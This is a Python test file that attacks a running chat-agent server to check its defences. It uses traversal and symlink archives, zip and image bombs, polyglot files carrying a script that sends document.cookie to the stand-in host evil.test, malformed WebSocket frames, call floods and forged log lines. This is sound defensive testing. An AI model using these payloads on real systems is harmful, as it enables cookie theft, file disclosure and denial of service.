"""Attacks on a running installation: hostile files, frames that are too many or too large, forged log lines."""

import base64
import io
import json
import os
import socket
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import cache
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.support.live_server import LiveKomand

_LIMIT = 30


@pytest.fixture
def session(live_komand: LiveKomand) -> str:
    """Return the public id of a session of admin."""
    live_komand.ask("hello")
    found: str = live_komand.get("sessions")[0]["sessionId"]
    return found


def headers(komand: LiveKomand) -> dict[str, str]:
    return {"Authorization": f"Bearer {komand.api_key}"}


def archive_with_a_way_out() -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("../../../../escaped-by-zip", "out")
            archive.writestr("/tmp/escaped-by-zip", "out")
        return file.getvalue()


def archive_with_links() -> bytes:
    with io.BytesIO() as file:
        with tarfile.open(fileobj=file, mode="w:gz") as archive:
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
            archive.addfile(link)
        return file.getvalue()


@cache
def archive_bomb() -> bytes:
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros", b"\0" * 200_000_000)
        return file.getvalue()


@cache
def image_bomb() -> bytes:
    """Return a PNG that claims 50,000 by 50,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    size = struct.pack("!IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 50_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


SCRIPT = b"<script>fetch('//evil.test/'+document.cookie)</script>"
# Each with the function that makes it: other tests of this process need not wait for a bomb.
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip that leads out": ("application/zip", archive_with_a_way_out),
    "tar with links": ("application/gzip", archive_with_links),
    "zip bomb": ("application/zip", archive_bomb),
    "image bomb": ("image/png", image_bomb),
    "image and page": ("image/gif", lambda: b"GIF89a/*" + SCRIPT + b"*/=1;"),
    "document and page": ("application/pdf", lambda: b"%PDF-1.7\n" + SCRIPT + b"\n1 0 obj<</JS(app.alert(1))>>endobj"),
    "page": ("text/html", lambda: b"<!doctype html>" + SCRIPT),
    "drawing with a script": (
        "image/svg+xml",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    ),
}


def entries(folder: Path) -> set[Path]:
    found = set()
    for place, _, names in os.walk(folder):
        found |= {Path(place, name) for name in names}
    return found


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_kept_as_it_is_and_never_rendered(live_komand: LiveKomand, session: str, name: str) -> None:
    media_type, make = FILES[name]
    body = make()
    before, places = entries(live_komand.data_dir), {"path": f"files/{name}.bin"}
    url = f"{live_komand.url}/api/sessions/{session}/artifacts"
    stored = httpx2.post(
        url, params=places, content=body, headers={**headers(live_komand), "Content-Type": media_type}, timeout=_LIMIT
    )
    assert stored.status_code == 200, stored.text
    added = [path for path in entries(live_komand.data_dir) - before if "artifacts" in path.parts]
    assert [path.stat().st_size for path in added] == [len(body)], "one file, as long as it was sent"
    assert not any(path.is_symlink() for path in added)
    assert not Path("/tmp/escaped-by-zip").exists()
    assert not (live_komand.data_dir / "escaped-by-zip").exists()

    artifact = stored.json()["data"]["artifactId"]
    got = httpx2.get(f"{live_komand.url}/api/artifacts/{artifact}", headers=headers(live_komand), timeout=_LIMIT)
    assert got.content == body
    assert got.headers["content-disposition"].startswith("attachment")
    assert got.headers["x-content-type-options"] == "nosniff"


def test_hostile_files_do_not_keep_the_agent_from_answering(live_komand: LiveKomand, session: str) -> None:
    """Store all of them in one session, whose files are listed to the model."""
    for name, (media_type, make) in FILES.items():
        url, more = f"{live_komand.url}/api/sessions/{session}/artifacts", {"Content-Type": media_type}
        stored = httpx2.post(
            url,
            params={"path": f"files/{name}"},
            content=make(),
            headers={**headers(live_komand), **more},
            timeout=_LIMIT,
        )
        assert stored.status_code == 200, stored.text
    assert live_komand.ask("still here?")["success"]


@pytest.mark.parametrize(
    "body", [b"\xff\xfe", b"[" * 200_000 + b"\x1e", b"x" * 20_000_000], ids=["bytes", "deep", "long"]
)
def test_a_hostile_record_over_http_is_refused(live_komand: LiveKomand, body: bytes) -> None:
    url, sent = f"{live_komand.url}/hubs/chat", headers(live_komand)
    token = httpx2.post(f"{url}/negotiate?negotiateVersion=1", headers=sent, timeout=_LIMIT).json()["connectionToken"]
    httpx2.get(url, params={"id": token}, headers=sent, timeout=_LIMIT)  # the first poll opens the connection
    with suppress(httpx2.TransportError):  # a body that is too long is not read to its end
        assert (
            200 <= httpx2.post(url, params={"id": token}, content=body, headers=sent, timeout=_LIMIT).status_code < 500
        )
    assert live_komand.ask("still here?")["success"]


class Socket:
    """A WebSocket client that sends what a well-behaved one would not (RFC 6455)."""

    def __init__(self, url: str, path: str, **more: str) -> None:
        host, _, port = url.removeprefix("http://").partition(":")
        self.connection = socket.create_connection((host, int(port)), timeout=_LIMIT)
        key = base64.b64encode(os.urandom(16)).decode()
        lines = [f"GET {path} HTTP/1.1", f"Host: {host}:{port}", "Upgrade: websocket", "Connection: Upgrade"]
        lines += [f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13"]
        lines += [f"{name}: {value}" for name, value in more.items()]
        self.connection.sendall("\r\n".join([*lines, "", ""]).encode())
        head = b""
        while b"\r\n\r\n" not in head and (received := self.connection.recv(65536)):
            head += received
        self.status = int(head.split(b" ", 2)[1])

    def send(self, opcode: int, payload: bytes) -> None:
        length = len(payload)
        first = 0x80 | opcode
        size = struct.pack("!BBQ", first, 0x80 | 127, length) if length >= 126 else bytes((first, 0x80 | length))
        self.connection.sendall(size + b"\0\0\0\0" + payload)

    def is_closed(self) -> bool:
        """Read until the server closes the connection; return whether it does within the limit."""
        with suppress(ConnectionError):
            while self.connection.recv(65536):
                pass
        return True

    def close(self) -> None:
        self.connection.close()


@pytest.fixture
def hub(live_komand: LiveKomand) -> Iterator[Any]:
    """Return a function that opens a socket of the hub with admin's login."""
    opened: list[Socket] = []

    def connect(**more: str) -> Socket:
        opened.append(Socket(live_komand.url, "/hubs/chat", **{**headers(live_komand), **more}))
        return opened[-1]

    yield connect
    for each in opened:
        each.close()


def test_a_page_of_another_site_gets_no_socket(hub: Any) -> None:
    assert hub(Origin="https://evil.test").status == 403
    assert hub().status == 101


@pytest.mark.parametrize(
    ("opcode", "payload"),
    [
        (1, b"x" * 5_000_000),
        (1, b'{"protocol":"json","version":1}\x1e' + b"[" * 100_000 + b"\x1e"),
        (1, b"\xff\xfe\xfd not text"),
        (3, b"a reserved kind of frame"),
        (9, b"a ping of more than 125 bytes" * 10),
    ],
    ids=["five megabytes", "deep nesting", "not UTF-8", "reserved opcode", "long ping"],
)
def test_a_hostile_frame_ends_its_own_connection_alone(
    live_komand: LiveKomand, hub: Any, opcode: int, payload: bytes
) -> None:
    other, attacker = hub(), hub()
    other.send(1, b'{"protocol":"json","version":1}\x1e')
    with suppress(ConnectionError):  # it may be refused by its first bytes
        attacker.send(opcode, payload)
    assert attacker.is_closed()
    other.connection.settimeout(_LIMIT)
    assert other.connection.recv(1024), "the other connection's handshake is answered"
    assert live_komand.ask("still here?")["success"]


def test_a_flood_of_calls_leaves_others_served(live_komand: LiveKomand, hub: Any) -> None:
    attacker = hub()
    attacker.send(1, b'{"protocol":"json","version":1}\x1e')
    call = json.dumps({"type": 1, "invocationId": "1", "target": "JoinSession", "arguments": ["x"]}).encode() + b"\x1e"
    with suppress(ConnectionError, TimeoutError):
        attacker.connection.settimeout(2)
        for _ in range(3000):
            attacker.send(1, call)
    assert live_komand.ask("still here?")["success"]


def test_texts_of_outsiders_do_not_forge_lines_of_the_log(live_komand: LiveKomand) -> None:
    forged = "\n23:59:59.999 INFO    komand.access: forged by a caller\x1b[2K\r"
    login = {"email": f"nobody{forged}", "password": f"wrong{forged}"}
    httpx2.post(f"{live_komand.url}/api/auth/login", json=login, timeout=_LIMIT)
    httpx2.post(f"{live_komand.url}/login", data={"username": f"nobody{forged}", "password": "x"}, timeout=_LIMIT)
    live_komand.ask(f"hello{forged}")
    httpx2.get(
        f"{live_komand.url}/api/sessions/a%0A23:59:59.999%20INFO%20forged", headers=headers(live_komand), timeout=_LIMIT
    )
    httpx2.get(
        f"{live_komand.url}/health", headers={"X-Request-Id": "a\tforged", "User-Agent": "forged"}, timeout=_LIMIT
    )
    logged = live_komand.log.read_bytes().decode(errors="replace")
    assert "POST /api/auth/login" in logged, "the processes write to this log"
    assert not [line for line in logged.splitlines() if line.startswith("23:59:59.999")]
    assert "\x1b" not in logged
